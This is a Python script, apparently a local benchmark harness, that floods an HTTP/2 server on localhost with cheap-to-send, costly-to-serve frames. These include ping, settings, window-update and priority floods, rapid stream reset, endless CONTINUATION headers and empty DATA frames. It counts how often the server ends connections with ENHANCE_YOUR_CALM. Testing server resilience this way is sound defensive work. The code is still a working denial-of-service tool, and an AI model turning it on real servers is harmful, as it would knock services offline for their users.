"""Frames of HTTP/2 that are cheap to send and dear to serve, from 127.0.0.2: `floods.py PORT SECONDS CONNECTIONS`.

Each connection sends one of the floods until it is ended, and comes again. Standard library only, and one thread: what an
attacker with one core can do. Prints how many connections were ended with which error, as JSON.
"""

import asyncio
import collections
import json
import random
import ssl
import sys
import time

PORT, SECONDS, CONNECTIONS = int(sys.argv[1]), float(sys.argv[2]), int(sys.argv[3])
HOST = "api.bench.test"
DATA, HEADERS, PRIORITY, RESET, SETTINGS, PING, GOAWAY, WINDOW, CONTINUATION = 0, 1, 2, 3, 4, 6, 7, 8, 9
END_STREAM, END_HEADERS = 1, 4
ENHANCE_YOUR_CALM = 11


def frame(kind, flags, stream, payload):
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


def fields(*pairs):
    # Literals without a name in the table (RFC 7541 section 6.2.2).
    return b"".join(b"\x00" + bytes([len(n)]) + n.encode() + bytes([len(v)]) + v.encode() for n, v in pairs)


def request(stream, flags, method):
    head = fields((":method", method), (":scheme", "https"), (":authority", HOST), (":path", "/"))
    return frame(HEADERS, flags | END_HEADERS, stream, head)


def odd(number):
    return 2 * number + 1


def begun(first, more):
    return lambda number: first if number == 0 else more


FLOODS = {
    "ping": lambda n: frame(PING, 0, 0, b"\x07" * 8),
    "settings": lambda n: frame(SETTINGS, 0, 0, b""),
    "settings that move every window": lambda n: frame(SETTINGS, 0, 0, bytes([0, 4, 0, 0, 0, n & 0xFF])),
    "priority": lambda n: frame(PRIORITY, 0, 1, bytes([0, 0, 0, 3, 9])),
    "windows byte by byte": lambda n: frame(WINDOW, 0, 0, (1).to_bytes(4, "big")),
    "empty pieces of a body": begun(request(1, 0, "POST"), frame(DATA, 0, 1, b"")),
    "streams begun and given up": lambda n: request(odd(n), END_STREAM, "GET") + frame(RESET, 0, odd(n), (8).to_bytes(4, "big")),
    "streams that the server gives up": lambda n: request(odd(n), 0, "POST") + frame(WINDOW, 0, odd(n), (0x7FFFFFFF).to_bytes(4, "big")),
    "a head without an end": begun(
        frame(HEADERS, END_STREAM, 1, fields((":method", "GET"))), frame(CONTINUATION, 0, 1, fields(("x-more", "more")))
    ),
    "a head of empty pieces": begun(frame(HEADERS, END_STREAM, 1, fields((":method", "GET"))), frame(CONTINUATION, 0, 1, b"")),
}

tls = ssl.create_default_context()
tls.check_hostname, tls.verify_mode = False, ssl.CERT_NONE
tls.set_alpn_protocols(["h2"])
ended, end = collections.Counter(), time.monotonic() + SECONDS


async def error(reader):
    """The error of the GOAWAY that ends a connection."""
    while True:
        head = await reader.readexactly(9)
        payload = await reader.readexactly(int.from_bytes(head[:3], "big"))
        if head[3] == GOAWAY:
            return int.from_bytes(payload[4:8], "big")


async def flood(of, pieces):
    await asyncio.sleep(random.random())
    while time.monotonic() < end:
        writer = None
        try:
            opened = asyncio.open_connection("127.0.0.1", PORT, ssl=tls, server_hostname=HOST, local_addr=("127.0.0.2", 0))
            reader, writer = await asyncio.wait_for(opened, 10)
            writer.write(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0, b""))
            waiting = asyncio.ensure_future(error(reader))
            for piece in pieces:
                if waiting.done():
                    break
                writer.write(piece)
                await asyncio.wait_for(writer.drain(), 10)
                await asyncio.sleep(0)
            code = await asyncio.wait_for(waiting, 10)
            ended["calm" if code == ENHANCE_YOUR_CALM else f"error {code}"] += 1
        except (OSError, ssl.SSLError, EOFError, asyncio.TimeoutError) as error_:
            ended[type(error_).__name__] += 1
        finally:
            if writer is not None:
                writer.transport.abort()
        # Whoever is sent away comes again, a second later.
        await asyncio.sleep(1)


async def main():
    pieces = {name: [b"".join(of(n) for n in range(p * 250, p * 250 + 250)) for p in range(20)] for name, of in FLOODS.items()}
    names = list(FLOODS)
    await asyncio.gather(*(flood(names[n % len(names)], pieces[names[n % len(names)]]) for n in range(CONNECTIONS)))
    print(json.dumps(ended))


asyncio.run(main())
